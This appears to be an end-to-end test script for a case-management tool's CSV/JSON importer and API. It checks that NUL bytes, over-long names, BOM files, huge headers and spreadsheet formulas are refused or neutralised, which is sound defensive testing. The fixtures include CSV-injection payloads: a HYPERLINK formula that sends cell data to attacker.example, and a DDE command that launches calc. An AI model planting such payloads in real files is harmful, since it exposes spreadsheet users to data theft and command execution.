# Hostile input to the importer and the API (issue 10, item 8): a NUL byte, values longer than
# a field allows, formulas that a spreadsheet would run when it opens an export, a JSON file
# with a byte-order mark, a header of 100,000 unknown columns.
. tests/e2e/lib.sh
"$CTIP" init >/dev/null
H=$(head -1 "$FIX/basic.csv")
row() { # row FAMILY RECORD [COMMENT]: a minimal valid row in basic.csv's columns
	python3 - "$H" "$@" <<'PY'
import csv, io, sys
h = sys.argv[1].split(",")
v = dict(zip(h, next(csv.reader([open("tests/fixtures/basic.csv", encoding="utf-8").read().splitlines()[1]]))))
v["prs_SecondName"], v["src_RecordId"] = sys.argv[2], sys.argv[3]
v["src_CaseId"] = "H-" + sys.argv[3]
for k in ("prs_IdentityNumber", "ctip_IdentityType", "prs_MobilePhone"):
    v[k] = ""
out = io.StringIO()
csv.writer(out, lineterminator="\n").writerow([v[k] for k in h])
sys.stdout.write(out.getvalue())
PY
}
# ---- NUL
{ echo "$H"; row "AbXC" R1; } | sed 's/AbXC/Ab\x00C/' >"$T/nul.csv"
check "(the file holds a NUL byte)" sh -c "tr -d '\\000' <'$T/nul.csv' | cmp -s - '$T/nul.csv'; test \$? -ne 0"
"$CTIP" import "$T/nul.csv" >"$T/out" 2>&1
check "a NUL byte in a CSV file is refused (exit 1)" test $? -eq 1
check "... saying where and how to fix it" grep -q "nul.csv:2: .*NUL byte" "$T/out"
check "... and nothing is stored" test "$(nrecords)" -eq 0
# ---- length limits
{ echo "$H"; row "$(python3 -c 'print("N" * 101)')" R2; } >"$T/long.csv"
"$CTIP" import "$T/long.csv" >"$T/out" 2>&1
check "a family name of 101 characters is refused" grep -q "prs_SecondName: is 101 characters long; at most 100" "$T/out"
{ echo "$H"; row "$(python3 -c 'print("Ơ" * 100)')" R3; } >"$T/ok.csv"
check "100 characters (200 bytes) are accepted" sh -c "'$CTIP' import '$T/ok.csv' >/dev/null 2>&1"
{ echo "$H"; row "HUGE" R4; } >"$T/huge0.csv"
python3 -c "import sys; open(sys.argv[2], 'w').write(open(sys.argv[1]).read().replace('HUGE', 'N' * 1048576))" "$T/huge0.csv" "$T/huge.csv"
"$CTIP" import "$T/huge.csv" >"$T/out" 2>&1
check "a name of 1 MiB is refused" sh -c "test $? -ne 0 && grep -q 'is 1048576 characters long' '$T/out'"
# ---- JSON with a byte-order mark, as CSV with one is
"$CTIP" export --format json --identities clear -o "$T/e.json" 2>/dev/null
printf '\357\273\277' | cat - "$T/e.json" >"$T/bom.json"
CTIP_DB="$T/b.db" "$CTIP" init >/dev/null
check "a JSON file with a UTF-8 byte-order mark imports" sh -c "CTIP_DB='$T/b.db' '$CTIP' import '$T/bom.json' >/dev/null 2>&1"
cp "$T/bom.json" "$T/bom-noext"
CTIP_DB="$T/c.db" "$CTIP" init >/dev/null
check "... also when the format is told by its first bytes" sh -c "CTIP_DB='$T/c.db' '$CTIP' import '$T/bom-noext' >/dev/null 2>&1"
# ---- a header of 100,000 unknown columns
python3 -c "import sys; sys.stdout.write(','.join('x%d' % i for i in range(100000)) + '\n' + ','.join('1' for i in range(100000)) + '\n')" >"$T/wide.csv"
"$CTIP" import "$T/wide.csv" >"$T/out" 2>"$T/err"
check "100,000 unknown columns: refused" test $? -eq 1
check "... reported as one rejected header, not 100,000 rows" sh -c "grep -qE '(^|[^0-9])1 rows? rejected' '$T/err' '$T/out' && ! grep -q '100000 rows rejected' '$T/err' '$T/out'"
check "... in a few lines (the first 20, then a count)" sh -c "test \$(wc -l <'$T/err') -lt 40 && grep -q '99980 more unknown or repeated columns' '$T/err'"
# ---- formulas in what people open in spreadsheets
CTIP_DB="$T/f.db" "$CTIP" init >/dev/null
python3 - "$H" >"$T/formula.csv" <<'PY'
import csv, sys
h = sys.argv[1].split(",")
rows = list(csv.reader(open("tests/fixtures/basic.csv", encoding="utf-8")))
v = dict(zip(h, rows[1]))
v["prs_SecondName"] = '=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")'
v["prs_FirstName"] = "@SUM(1+1)"
v["prs_MiddleName"] = "'=typed with an apostrophe"
v["src_RecordId"] = "-2+3"
v["src_CaseId"] = "+CMD|' /C calc'!A0"
w = csv.writer(sys.stdout, lineterminator="\n")
w.writerow(h)
w.writerow([v[k] for k in h])
PY
check "(a record whose fields are formulas imports)" sh -c "CTIP_DB='$T/f.db' '$CTIP' import '$T/formula.csv' >/dev/null 2>&1"
CTIP_DB="$T/f.db" "$CTIP" export --format csv --identities clear -o "$T/f1.csv" 2>/dev/null
python3 - "$T/f1.csv" >"$T/cells" <<'PY'
import csv, sys
for r in csv.reader(open(sys.argv[1], encoding="utf-8")):
    for c in r:
        if c and (c[0] in "=@\t\r" or (c[0] in "+-" and len(c) > 1 and not c.lstrip("+-").replace(".", "").isdigit())):
            print("FORMULA", c)
        if c.startswith("'"):
            print("GUARDED", c)
PY
check "export CSV: no cell a spreadsheet would run as a formula" sh -c "! grep -q '^FORMULA' '$T/cells'"
check "... each guarded by an apostrophe" test "$(grep -c '^GUARDED' "$T/cells")" -eq 5
check "... a number is left as it is (a phone +84...)" grep -q ',+84912345678,' "$T/f1.csv"
CTIP_DB="$T/g.db" "$CTIP" init >/dev/null
CTIP_DB="$T/g.db" "$CTIP" import "$T/f1.csv" >/dev/null 2>&1
check "the importer restores what the exporter guarded: values unchanged" \
	test "$(export CTIP_DB="$T/g.db"; exported '.cases[].src_CaseId')" = "+CMD|' /C calc'!A0"
CTIP_DB="$T/g.db" "$CTIP" export --format csv --identities clear -o "$T/f2.csv" 2>/dev/null
check "... and export -> import -> export is identical" cmp -s "$T/f1.csv" "$T/f2.csv"
CTIP_DB="$T/g.db" "$CTIP" show --json P1 >"$T/show" 2>/dev/null
check "... names as written (a CSV cell '=x is read as =x, as spreadsheets do)" \
	sh -c "grep -q '\"=HYPERLINK' '$T/show' && grep -q '\"=typed with an apostrophe' '$T/show'"
# a value that truly begins with an apostrophe and '=' (from JSON) survives CSV both ways
CTIP_DB="$T/f.db" "$CTIP" export --format json --identities clear -o "$T/f1.json" 2>/dev/null
sed -i "s/\"=typed with an apostrophe\"/\"'=typed with an apostrophe\"/" "$T/f1.json"
CTIP_DB="$T/j.db" "$CTIP" init >/dev/null
CTIP_DB="$T/j.db" "$CTIP" import "$T/f1.json" >/dev/null 2>&1
CTIP_DB="$T/j.db" "$CTIP" export --format csv --identities clear -o "$T/j1.csv" 2>/dev/null
CTIP_DB="$T/k.db" "$CTIP" init >/dev/null
CTIP_DB="$T/k.db" "$CTIP" import "$T/j1.csv" >/dev/null 2>&1
CTIP_DB="$T/k.db" "$CTIP" show --json P1 >"$T/show2" 2>/dev/null
check "a value beginning with an apostrophe and = keeps its apostrophe through CSV export and import" \
	grep -q "\"'=typed with an apostrophe" "$T/show2"
CTIP_DB="$T/f.db" "$CTIP" stats cases --by organisation --format csv >"$T/stats.csv" 2>/dev/null
CTIP_DB="$T/f.db" "$CTIP" report annual --year 2023 --format xlsx -o "$T/r.xlsx" >/dev/null 2>&1
check "an XLSX report holds no formula (strings are written as strings)" \
	sh -c "test -s '$T/r.xlsx' && ! unzip -p '$T/r.xlsx' 'xl/worksheets/*.xml' | grep -q '<f>'"
# ---- the API keeps the same limits, and refuses NUL
python3 - <<'PY'
import sys
sys.path.insert(0, "tests/attacks")
import harness as h
reg = h.Registry(orgs={"A": h.ORGS["A"]}, roles=["caseworker"])
reg.serve()
c = reg.client("a.caseworker")
st, js = c.post("/api/cases", {"persons": [{"role": "victim", "prs_SecondName": "N" * 101}]})
h.report("API: a family name of 101 characters: 400 naming the field",
         st == 400 and js.get("field") == "prs_SecondName" and "at most 100" in js.get("error", ""), (st, js))
st, js = c.post("/api/cases", {"persons": [{"role": "victim", "prs_SecondName": "N" * 100,
                                            "prs_MobilePhone": ["0912 345 678"]}]})
h.report("API: 100 characters are accepted", st == 201, (st, js))
st, js = c.post("/api/cases", {"persons": [{"role": "victim", "prs_SecondName": "Ab\u0000C"}]})
h.report("API: a NUL in a name is refused", st == 400, (st, js))
h.report("the server stops cleanly", reg.stop() == 0)
h.finish()
PY
